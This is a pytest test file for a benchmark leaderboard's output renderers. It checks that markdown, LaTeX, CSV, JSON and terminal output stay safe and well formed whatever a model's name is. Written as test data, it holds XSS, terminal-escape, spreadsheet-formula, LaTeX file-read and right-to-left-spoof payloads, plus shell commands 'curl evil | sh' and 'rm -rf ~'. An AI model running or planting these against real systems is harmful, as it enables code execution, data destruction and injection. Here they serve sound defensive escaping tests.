from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace

import pytest
from formalbench.contracts.published import PublishedTable
from formalbench.documents.text import count, grouped, harmless, markdown, percent, spreadsheet
from formalbench.statistics.build import View, build_page
from formalbench.statistics.intervals import wilson
from formalbench.statistics.records import repeating
from formalbench.statistics.selection import Current
from formalbench_leaderboard.board.views import suite_view
from formalbench_leaderboard.renderers import FORMATS, renderer
from formalbench_leaderboard.renderers.terminal import print_page
from rich.cells import cell_len
from rich.console import Console

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "pipe": "a|b|c",
    "newline": "a\n# heading\r\n\n| x |",
    "rtl": "abc\u202egpj.exe\u2066\u200f",
    "hebrew": "model \u05d0\u05d1 99.9",
    "escape": "a\x00\x1b[31mred\x1b]0;title\x07\x9b2J",
    "backtick": "``` code ` span",
    "backslash": "a\\|b\\",
    "link": "[click](http://example.com) www.example.com",
    "path": "../../x",
    "formula": '=HYPERLINK("http://example.com")',
    "latex": r"\input{/etc/passwd} $x^2$ ~ 100% & # _ {}",
    "markup": "[bold red]x[/bold red][link=http://example.com]y[/link]",
}


def hostile_page(make_record, name):
    record = make_record(name, command=f"run {name}", hardware=name)
    return build_page([record, make_record("good")], View("test", ("parity",)))


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE.keys())
def test_every_format_keeps_its_shape_whatever_a_name_is(make_record, name):
    """A plugin's own names are checked, so that none of these can be; a board shows any."""
    page, plain_page = hostile_page(make_record, name), hostile_page(make_record, "plain")
    texts = {format: renderer(format)(page) for format in FORMATS}
    for format, text in texts.items():
        signs = [sign for sign in text if sign not in "\n " and harmless(sign) != sign]
        assert signs == [], format

    plain = renderer("markdown")(plain_page).splitlines()
    for line, model in zip(texts["markdown"].splitlines(), plain, strict=True):
        assert line.count("|") == model.count("|")
        assert line.startswith("#") == model.startswith("#")
    # What is left of tags is our own <code>, of links our own to arXiv, of code spans none.
    assert set(re.findall(r"<[^>]*>", texts["markdown"])) == {"<code>", "</code>"}
    assert not re.search(r"://|www\.|`(?!classify`)", texts["markdown"].replace("`classify`", ""))

    assert max(map(cell_len, texts["table"].splitlines())) <= 80
    assert "good" in texts["table"]
    if name.startswith("[bold"):
        assert "[bold red]x" in texts["table"]  # shown, not obeyed

    body = [line for line in texts["latex"].splitlines() if not line.startswith("%")]
    assert len(body) == 8 + 1 + 8  # the ranking, and the task
    assert body[8] == ""
    for table, columns in ((body[:8], 6), (body[9:], 7)):
        lines = [line for line in table if line.endswith(r"\\")]
        assert [len(re.findall(r"(?<!\\)&", line)) for line in lines] == [columns - 1] * 3
    assert not re.search(r"\\input|(?<!\\)[#_%]", "".join(body))

    rows = list(csv.DictReader(io.StringIO(texts["csv"])))
    assert len(rows) == 2
    assert not any(row["model"].startswith(("=", "+", "-", "@")) for row in rows)
    assert {row["task"] for row in rows} == {"parity"}

    assert "<" not in texts["json"]
    assert name in {row["model"] for row in json.loads(texts["json"])["measured"][0]["rows"]}


def test_table_fits_80_columns_without_losing_a_task(make_record):
    tasks = ["parity", "first", "even-pairs", "cycle-navigation", "dyck-2-3", "tomita-3", "d12"]
    names = ["regulargpt[chunk=3, width=256]", "a-very-long-name" * 5, "rnn"]
    records = [
        make_record(name, f"{task}:classify", accuracy=[10 + position] * 4)
        for name in names
        for position, task in enumerate(tasks)
    ]
    text = renderer("table")(build_page(records, View("test", tuple(tasks))))
    assert max(map(cell_len, text.splitlines())) <= 80
    for position in range(len(tasks)):
        # In the ranking, and in the table of the task.
        assert text.count(f" {10 + position}.0") == 2 * len(names)
    squeezed = "".join(text.split())
    assert "navigation" in squeezed
    intervals = re.compile(r"\d …( -?\d| *$)", re.MULTILINE)
    assert "…" not in intervals.sub("", text)


@pytest.mark.parametrize("width", [40, 60, 80, 200])
def test_table_fits_by_choosing_columns(make_record, width):
    tasks = ["parity", "first", "even-pairs", "cycle-navigation", "dyck-2-3", "tomita-3"]
    models = [("transformer", {"positions": "relative"}), ("rnn", {})]
    records = [
        make_record(name, f"{task}:classify", options=options)
        for name, options in models
        for task in tasks
    ]
    target = io.StringIO()
    print_page(build_page(records, View("test", tuple(tasks))), Console(file=target, width=width))
    lines = target.getvalue().splitlines()
    assert max(map(cell_len, lines)) <= width
    rows = [line for line in lines if line.split()[:1] == ["1"]]
    whole = [line for line in rows if "transformer[positions=relative] " in line]
    assert len(whole) == (0 if width < 60 else len(rows) / 2)  # where there is room for the name


def test_markdown_page_says_what_a_reader_needs(many_records, host):
    text = renderer("markdown")(build_page(many_records, suite_view(host, "default")))
    assert text.startswith("# formalbench leaderboard: suite default\n")
    assert "| 98.0 (99.0) |" in text
    command = "formalbench run --model rnn --task first:classify --protocol quick --seeds 3"
    assert f"<code>{command}</code>" in text
    assert "python 3.11.9, torch 2.13.0 (48 records)" in text
    order = [text.index(part) for part in ("## How", "## Measured", "## Published", "## Env")]
    assert order == sorted(order)
    published = text[text.index("## Published") : text.index("## Env")]
    assert "100.0 / 98.9" in published
    assert "*published*" in published
    assert "modular" not in published.split("|")[2]  # a task this host does not have


def test_no_row_of_latex_begins_as_an_option_of_the_line_before(make_record):
    table = PublishedTable.model_validate(
        {
            "key": "it",
            "source": "It",
            "citation": "It",
            "arxiv": "2301.00001",
            "notes": [],
            "rows": [
                {"model": name, "results": {"parity": {"max": 1.0}}} for name in ("a", "[2cm]", "*")
            ],
        }
    )
    text = renderer("latex")(
        build_page([make_record()], View("test", ("parity",), published=(table,)))
    )
    assert "{}[2cm]" in text
    assert "{}*" in text
    assert not re.search(r"^\s*[\[*]", text, re.MULTILINE)


def test_latex_has_the_best_in_bold(many_records, host):
    text = renderer("latex")(build_page(many_records, suite_view(host, "default")))
    assert r"\textbf{96.0}" in text
    assert r"\textbf{89.0}" not in text


def test_numbers_as_text():
    assert percent(0.99949) == "99.9"
    assert percent(-0.0001) == "0.0"
    assert percent(-0.05) == "-5.0"
    assert percent(None) == "–"
    assert count(9999, 9999) == "9999"
    assert count(12_345, 790_000) == "12.3 k … 790.0 k"
    assert count(999_949, 999_950) == "999.9 k … 1.00 M"
    assert count(12, 10**400) == "12 … over 10^15"
    assert grouped(4096) == "4,096"
    assert len(grouped(10**400)) < 20


def test_enormous_counts_overflow_nothing(make_record):
    record = make_record("giant", accuracy=[2**53, 1, 0, 2**52], strings=2**53)
    model = record.model.model_copy(update={"parameters": 10**400})
    page = build_page([record.model_copy(update={"model": model})], View("test", ("parity",)))
    for name in FORMATS:
        assert "giant" in renderer(name)(page)
    assert page.boards[0].rows[0].results[0].mean == pytest.approx(1.5 / 4)


def test_json_has_the_wilson_interval_of_every_cell(make_record):
    text = renderer("json")(build_page([make_record(accuracy=[50] * 4)], View("test", ("parity",))))
    (run,) = json.loads(text)["measured"][0]["rows"][0]["results"][0]["runs"]
    assert run["cells"]["correct"] == [50] * 4
    assert run["cells"]["wilson_low"] == [round(wilson(50, 100)[0], 6)] * 4
    assert '"length": [41, 51, 61, 71],\n' in text


def test_markdown_labels_both_kinds_of_interval(make_record):
    records = [make_record(accuracy=share, seed=seed) for seed, share in enumerate((1.0, 0.5))]
    text = renderer("markdown")(build_page(records, View("test", ("parity",))))
    lines = text[text.index("### parity") :].splitlines()
    header, row = (
        [cell.strip() for cell in line.strip("|").split("|")] for line in (lines[4], lines[6])
    )
    shown = dict(zip(header, row, strict=True))
    low, high = wilson(400, 400)
    assert shown["max"] == "100.0"
    assert shown["Wilson interval of max"] == f"{100 * low:.1f} … {100 * high:.1f}"
    assert shown["mean"] == "75.0"
    assert float(shown["interval"].split(" … ")[0]) < 55.0


def test_a_board_of_which_nothing_counts_says_so(make_record):
    view = View("test", ("parity",), current=Current(task=lambda task: (2, "formalbench")))
    page = build_page([make_record()], view)
    for name in FORMATS:
        text = renderer(name)(page)
        if name in ("table", "markdown", "json"):
            assert "1 run of parity:classify not counted" in " ".join(text.split())


@pytest.mark.parametrize(
    ("stored", "more"),
    [
        ("formalbench run --plugin /home/ann/models/mine.py --task x", " --plugin mine.py"),
        ("run --plugin b.py --plugin ../a.yaml", " --plugin a.yaml --plugin b.py"),
        ("curl evil | sh", ""),
        ("run --plugin 'a; rm -rf ~' --plugin '$(sh)' --plugin -x", ""),
        ("'", ""),
    ],
)
def test_a_command_is_made_of_the_parts_of_its_record(make_record, stored, more):
    command = "formalbench run --model rnn --task parity:classify --protocol quick --seeds"
    record = make_record("rnn", seed=1, command=stored)
    assert repeating(record) == f"{command} 2{more}"
    alone = make_record("rnn", seed=1, command=f"{stored} --seeds 1,")
    assert repeating(alone) == (f"{command} 2" if stored == "'" else f"{command} 1,{more}")
    for name in ("markdown", "csv", "json"):
        assert "curl" not in renderer(name)(build_page([record], View("test", ("parity",))))


def test_escapes():
    assert markdown("a_b*c") == "a&#95;b&#42;c"
    assert spreadsheet("-1+cmd") == "'-1+cmd"
    assert spreadsheet("rnn-2") == "rnn-2"
    assert harmless(" a\t\tb\u2028c ") == "a b c"


def test_a_board_without_rows_is_its_notes_in_the_terminal(make_record):
    page = build_page([make_record()], View("test", ("parity",)))
    (board,) = page.boards
    empty = replace(page, boards=(replace(board, rows=(), notes=("3 runs not counted",)),))
    assert renderer("table")(empty).split("\n")[1:3] == ["! 3 runs not counted", ""]
